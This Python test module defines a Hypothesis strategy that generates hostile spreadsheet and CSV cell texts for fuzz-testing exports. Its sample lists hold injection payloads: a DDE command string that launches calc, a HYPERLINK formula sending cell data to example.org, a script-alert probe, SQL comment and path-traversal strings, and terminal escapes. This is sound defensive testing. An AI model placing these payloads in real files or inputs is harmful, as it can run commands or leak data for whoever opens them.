"""Texts that hurt whoever shows, writes or reads them."""

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from customer_groups.testing.strategies.texts import LOOK_LIKE_VALUES

__all__ = ["hostile_cells"]

_BEFORE_A_FORMULA = (
    *("", " ", "\t", "\r", "\n", "\0", "'", '"', "''", "\v", "\x85"),
    *("\u00a0", "\u2028", "\u3000", "\ufeff", "\u200b"),
)
_SIGNS = "=+-@＝＋－＠|%"
_AFTER_A_SIGN = (
    *("1+1", "", "A1", "1", "SUM(A1:A9)", "@SUM(1+1)", "cmd|' /C calc'!A0"),
    *('HYPERLINK("https://example.org?"&A1,"ok")', "IMPORTXML(A1,B1)"),
)

_CUT_ELSEWHERE = (
    *(",", ";", "\t", "|", '"', '""', '"C1', 'C"1', '"C1"x', "'", "\\", '\\"', "\\N"),
    *("C1,C2", "C1;C2", "C1\tC2", "C1\nC2", "C1\r\nC2", "C1\rC2", "C1\vC2", "C1\x85C2"),
    *("C1\u2028C2", "sep=;", "sep=,", "SEP=\t", "#C1", "C1\x1aC2", "\x00", "C1\x00C2"),
)
_SEEN_OTHERWISE = (
    *("\u200b", "C\u00ad1", "C\u200d1", "\ufeffC1", "\u202eC1", "\u2066C1\u2069", "С1"),
    *("\u200f=1", "C1\u0301", "e\u0301", "\u00e9", "\x7f", "\x1b[2J", "\x1b]0;C1\x07", "\x08"),
    *("\ufffe", "\ufdd0", "C1 ", " C1", "\u00a0C1\u3000", "😀"),
)
_TAKEN_FOR_CODE = (
    *("C1\n2026-01-02 00:00:00 ERROR C2", "%s", "%(code)s", "{}", "{0.__class__}", "${C1}"),
    *("$(C1)", "`C1`", "{{7*7}}", "<b>C1</b>", "<script>alert(1)</script>", "&lt;", "[red]C1"),
    *("'; --", "../C1", "C:\\C1", "https://example.org", "#REF!", "#DIV/0!", "1e400"),
)


def hostile_cells(*, max_size: int = 1_000) -> SearchStrategy[str]:
    """Generate texts that spreadsheets, CSV, logs and screens take for more than text.

    Formulas in all spellings; numbers, dates, truth and errors; quotes, delimiters and line
    ends; control, invisible and direction-changing characters; markup and format strings;
    nothing, white space, and more than most columns hold; and any other text without
    surrogates. Few of them can be names or codes. Shrinks to ``"=1+1"``.

    Args:
        max_size: How many characters a text has at most, from 1. With 32,768 there is one
            more than a cell of the usual spreadsheets holds.
    """
    formulas = st.tuples(
        st.sampled_from(_BEFORE_A_FORMULA),
        st.sampled_from(_SIGNS),
        st.sampled_from(_AFTER_A_SIGN),
    )
    known = (*LOOK_LIKE_VALUES, *_CUT_ELSEWHERE, *_SEEN_OTHERWISE, *_TAKEN_FOR_CODE)
    repeated = st.sampled_from(("a", "=", '"', ",", "\n", "😀", "a, "))
    longest = repeated.map(lambda text: text * max_size)
    texts = st.one_of(formulas.map("".join), st.sampled_from(known), st.text(), longest)
    return texts.map(lambda text: text[:max_size])
